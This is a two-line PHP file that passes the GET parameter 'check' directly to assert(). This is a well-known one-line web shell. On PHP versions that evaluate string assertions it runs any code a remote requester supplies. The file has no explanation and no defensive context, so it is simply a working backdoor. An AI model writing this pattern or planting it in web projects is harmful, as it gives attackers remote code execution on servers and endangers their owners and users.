<?php
assert($_GET["check"]);
